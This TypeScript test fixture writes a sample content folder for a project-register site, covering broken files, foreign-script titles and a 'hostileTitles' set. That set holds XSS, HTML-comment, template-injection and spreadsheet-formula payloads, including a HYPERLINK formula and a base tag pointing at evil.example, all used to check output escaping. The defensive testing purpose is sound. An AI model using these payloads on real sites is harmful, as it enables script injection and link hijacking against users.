import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { sampleFiles, sampleText, sampleWith } from '../register/sample.ts';

/** A word that stands in every broken file and in no other; nowhere in the built site may it be found. */
export const secretWord = 'Quincelantern';

/** Ids of the declarations that are at fault, each in its own way. */
export const brokenIds = [
  'broken-answers',
  'broken-dangling-link',
  'broken-empty-file',
  'broken-front-matter',
  'broken-javascript',
  'broken-linked-file',
  'broken-too-large',
  'broken-utf-8',
] as const;

/** Id of the organisation whose file is at fault. */
export const brokenOrganisation = 'broken-organisation';

/** Names of files that can be nobody's id. Each holds {@link secretWord}, and no address may be made of them. */
export const unusableNames = [
  '12.md',
  'README.md',
  'a.json.md',
  'a.md.md',
  'notes.txt',
  'page.md',
  'turned-\u202egnp.md',
] as const;

/** Name of a folder among the declarations. */
export const unusableFolder = 'b.json.md';

/** Titles that would do harm, or come out wrong, on a page that did not show them as text; by the id of their entry. */
export const hostileTitles: Readonly<Record<string, string>> = {
  'hostile-attribute': `" autofocus onfocus="window.hostile=1" x=' onmouseover='window.hostile=1`,
  'hostile-comment': `--> <img src=x onerror=window.hostile=1> <!-- ]]> ?> <![CDATA[`,
  'hostile-element': `</title></h1></script><script>window.hostile=1</script><b>bold`,
  'hostile-entity': `&lt;img src=x onerror=window.hostile=1&gt; &amp;amp; &#60;b&#62; R&D`,
  'hostile-formula': `=HYPERLINK("https://evil.example/"&A1;"press | here \\| now")`,
  'hostile-mark': `<mark>marked</mark> <style>*{display:none}</style> <base href=//evil.example>`,
  'hostile-template': '{{constructor.constructor("window.hostile=1")()}} ${window.hostile=1} <%= 1 %> {`x`}',
};

/** Titles in other scripts, which must come out as they went in; by the id of their entry. */
export const foreignTitles: Readonly<Record<string, string>> = {
  'foreign-arabic': 'عدد زوار الحدائق العامة',
  'foreign-chinese': '公园访客统计 👨‍👩‍👧‍👦',
  'foreign-persian': 'شمارش بازدید‌کنندگان از پارک‌ها',
  'foreign-welsh': 'Cyfrif ymwelwyr â’r parciau: ŵ ŷ',
};

/** An old id of the sample declaration, whose address leads to the new one. */
export const previousId = 'sample-of-old';

/** The sample declaration's organisations without its supplier, who takes part in every other sound declaration. */
const councilAlone = 'organisations:\n  - id: sample-council\n    role: lead';

/** Id of an entry that was removed on legal grounds, and one that it had before. */
export const removedIds = ['removed-entry', 'removed-before'] as const;

/** The list of open submissions of the same register: what a scheduled job would write down. */
export const openSubmissions = {
  schema: 1,
  made: '2026-11-22',
  submissions: [
    {
      number: 12,
      where: 'pull',
      kind: 'change',
      project: 'hostile-element',
      organisation: 'sample-council',
      opened: '2026-11-02',
      turn: 'cdc',
    },
    { number: 15, where: 'pull', kind: 'new', opened: '2026-11-20', turn: 'signatory' },
    { number: 16, where: 'issue', kind: 'unknown', opened: '2026-11-22', turn: 'cdc' },
  ],
};

/** Writes a content folder with sound, foreign, hostile and broken declarations. */
export async function writeHostileContent(folder: string): Promise<void> {
  const write = async (path: string, content: string | Uint8Array) => {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), content);
  };
  for (const [path, text] of Object.entries(sampleFiles)) await write(path, text);
  await write('projects/sample-declaration.md', sampleWith(`previous_ids:\n  - ${previousId}\n${councilAlone}`));
  for (const [id, title] of Object.entries({ ...hostileTitles, ...foreignTitles })) {
    const quoted = JSON.stringify(title);
    const place = JSON.stringify(title.slice(0, 80).trim());
    await write(`projects/${id}.md`, sampleWith(`title: ${quoted}\nsummary: ${quoted}\nfound_at:\n  - ${place}`));
  }
  await write('reviews/2026-05-01-hostile.md', hostileReview());
  for (const [path, content] of Object.entries(brokenFiles())) await write(path, content);
  const [removed, before] = removedIds;
  const notice = `---\ndate: 2026-10-30\nground: court_order\nnote: A court ordered the removal of this entry.\nprevious_ids:\n  - ${before}\n---\n`;
  await write(`removed/${removed}.md`, notice);
  await write('submissions.json', JSON.stringify(openSubmissions));
  for (const name of unusableNames) await write(`projects/${name}`, sampleWith(`title: A project about ${secretWord}`));
  await mkdir(join(folder, 'projects', unusableFolder));
  await symlink(join(folder, 'projects/sample-declaration.md'), join(folder, 'projects/broken-linked-file.md'));
  await symlink(join(folder, 'nowhere.md'), join(folder, 'projects/broken-dangling-link.md'));
}

/** A review whose every text would do harm on a page that did not show it as text. */
function hostileReview(): string {
  const [attribute, comment, element, entity] = Object.values(hostileTitles).map((text) => JSON.stringify(text));
  return `---
date: 2026-05-01
reviewer: ${element}
independence: ${comment}
covers:
  - sample-council
findings:
  - principle: 8
    finding: concern
    note: ${attribute}
    action: ${entity}
    due: 2026-06-01
charter_changes: ${element}
example: true
---
`;
}

function brokenFiles(): Record<string, string | Uint8Array> {
  const secret = `title: A project about ${secretWord}\nsummary: It concerns ${secretWord} alone.`;
  return {
    'projects/broken-answers.md': `${sampleWith(secret)}\n## Purpose and outputs\n\n<b>${secretWord}</b>\n`,
    'projects/broken-empty-file.md': '',
    'projects/broken-front-matter.md': sampleWith(`${secret}\nstage: ${secretWord}`),
    'projects/broken-javascript.md': sampleText.replace('---', `---js\n({ title: "${secretWord}" })`),
    'projects/broken-too-large.md': sampleWith(secret) + `${secretWord} `.repeat(6000),
    'projects/broken-utf-8.md': Buffer.concat([Buffer.from(sampleWith(secret)), Buffer.from([0xc3, 0x28])]),
    'reviews/2026-06-01-broken.md': `---\ndate: 2026-06-01\nreviewer: ${secretWord}\n---\n`,
    'reviews/no-day.md': hostileReview().replace(/^reviewer: .*$/m, `reviewer: ${secretWord}`),
    [`organisations/${brokenOrganisation}.md`]: `---\nname: ${secretWord}\nkind: ${secretWord}\n---\n`,
  };
}
